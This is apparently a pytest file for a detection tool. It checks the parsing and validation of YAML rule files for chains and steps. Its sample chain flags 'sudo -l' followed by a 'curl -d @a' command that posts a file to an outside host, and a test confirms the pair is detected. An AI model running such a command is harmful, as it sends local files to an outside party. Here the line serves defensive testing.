"""Chains and steps as files: what is read, what is refused."""

from __future__ import annotations

from pathlib import Path

import pytest
from tests.detection.sessions import completed

from defenseclaw import packs
from defenseclaw.detection.chains import Ordered, Step
from defenseclaw.errors import PackError
from defenseclaw.packs import chainfile
from defenseclaw.packs.document import Document
from defenseclaw.vocabulary import EventKind, Severity

CHAIN = """\
id: MY-CHAIN
title: A title
severity: HIGH
confidence: 0.5
tags: [mine]
steps: [privilege_search, [egress, workload_exec]]
window: {events: 8, minutes: 2}
late: LOW
flags:
  - [sudo -l, "curl -d @a https://in.example.net/"]
allows: [sudo -l]
why: It stings.
fix: Use a thimble.
"""


def load(folder: Path, text: str) -> packs.Pack:
    (folder / "chain").mkdir(exist_ok=True)
    (folder / "chain" / "my-chain.yaml").write_text(text)
    return packs.load_pack("default", [folder])


def test_an_operator_makes_chains_of_the_steps_there_are(tmp_path: Path) -> None:
    rule = load(tmp_path, CHAIN).rules.rules["MY-CHAIN"]
    assert rule.ordered == Ordered(
        steps=(("privilege_search",), ("egress", "workload_exec")), events=8, minutes=2, late=Severity.LOW
    )
    (flag,), (allow,) = rule.flags, rule.allows
    assert [each.note for each in flag.before] == ["sudo -l"]
    assert (flag.args, allow.before) == ({"command": "curl -d @a https://in.example.net/"}, ())


def test_it_is_found(tmp_path: Path) -> None:
    rules = load(tmp_path, CHAIN).rules
    assert "MY-CHAIN" in completed(["sudo -l", "curl -d @a https://in.example.net/"], rules)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (CHAIN.replace("privilege_search", "no_such_step"), "MY-CHAIN: no step is named 'no_such_step'"),
        (CHAIN.replace("window: {events: 8, minutes: 2}\n", ""), ":6: MY-CHAIN: a chain needs a window"),
        (CHAIN.replace(", minutes: 2", ""), ":7: MY-CHAIN: missing: minutes"),
        (CHAIN.replace("events: 8", "events: 0"), ":7: MY-CHAIN: must lie between 1 and 10000"),
        (CHAIN.replace("events: 8", "events: 8.5"), ":7: MY-CHAIN: a whole number is needed"),
        (CHAIN.replace("events: 8", "events: 10001"), ":7: MY-CHAIN: must lie between 1 and 10000"),
        (CHAIN.replace("late: LOW", "late: NEVER"), ":8: MY-CHAIN: 'NEVER' is not one of"),
        (CHAIN.replace("[privilege_search, [egress, workload_exec]]", "[egress]"), "2 to 8 steps"),
        (CHAIN.replace("[egress, workload_exec]", "[]"), "a list with at least one entry is needed"),
        (CHAIN.replace("[egress, workload_exec]", "[egress, egress]"), "an entry stands twice"),
        (
            CHAIN.replace("steps: [privilege_search, [egress, workload_exec]]", "condition: tool == 'x'"),
            "belongs to steps, and there are none",
        ),
    ],
)
def test_errors_name_file_line_and_rule(tmp_path: Path, text: str, message: str) -> None:
    with pytest.raises(PackError) as error:
        load(tmp_path, text)
    assert message in error.value.message


def step(text: str, name: str = "my-step") -> Step:
    return chainfile.step(Document(text.encode(), f"steps/{name}.yaml"))


def test_a_step_is_read_whole() -> None:
    text = """\
name: my_step
says: something was done
rules: [A, B]
categories: [secret]
least: LOW
condition: tool == 'x'
tool: '^x'
result: y$
events: [Denied]
refused: true
traces: shown
kinds: [tool_result]
"""
    assert step(text) == Step(
        name="my_step",
        says="something was done",
        rules=frozenset({"A", "B"}),
        categories=frozenset({"secret"}),
        least=Severity.LOW,
        condition="tool == 'x'",
        tool="^x",
        result="y$",
        events=frozenset({"Denied"}),
        refused=True,
        traces="shown",
        kinds=frozenset({EventKind.TOOL_RESULT}),
    )


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("name: my_step\nrules: [A]\n", "missing: says"),
        ("name: my_step\nsays: x\n", "needs one of categories"),
        ("name: other\nsays: x\nrules: [A]\n", "must be named other.yaml"),
        ("name: my_step\nsays: x\nrules: [A]\ncolour: red\n", "unknown key 'colour'"),
        ("name: my_step\nsays: x\ntraces: maybe\n", "'maybe' is not one of shown, sent"),
    ],
)
def test_a_bad_step_is_refused(text: str, message: str) -> None:
    with pytest.raises(PackError) as error:
        step(text)
    assert message in error.value.message
